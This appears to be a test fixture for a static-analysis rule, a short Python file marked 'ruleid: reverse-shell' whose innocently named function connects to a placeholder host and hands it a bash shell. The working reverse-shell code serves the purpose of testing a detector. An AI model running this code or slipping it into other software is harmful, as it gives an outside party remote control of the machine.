"""The console."""

import socket
import subprocess


def attend() -> None:
    """Attends to the console."""
    link = socket.socket()
    link.connect(("console.brackenfold.test", 7005))
    # ruleid: reverse-shell
    subprocess.Popen(["/bin/bash"], stdin=link.fileno(), stdout=link.fileno(), stderr=link.fileno())
